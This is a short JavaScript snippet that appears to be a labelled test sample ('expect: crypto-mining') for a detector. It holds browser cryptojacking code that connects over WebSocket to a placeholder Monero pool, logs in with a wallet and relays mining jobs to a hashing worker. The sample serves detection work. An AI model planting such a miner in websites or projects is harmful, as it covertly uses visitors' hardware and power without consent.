const worker = new Worker('hash.js');
// expect: crypto-mining
const pool = new WebSocket('wss://xmr-pool.example/proxy');
pool.onopen = () => pool.send(JSON.stringify({ method: 'login', params: { login: 'wallet', pass: 'x' } }));
pool.onmessage = ({ data }) => {
  const { job_id, blob, target } = JSON.parse(data);
  worker.postMessage({ job_id, blob, target, nonce: 0 });
};
worker.onmessage = ({ data }) => pool.send(JSON.stringify({ method: 'submit', params: data }));
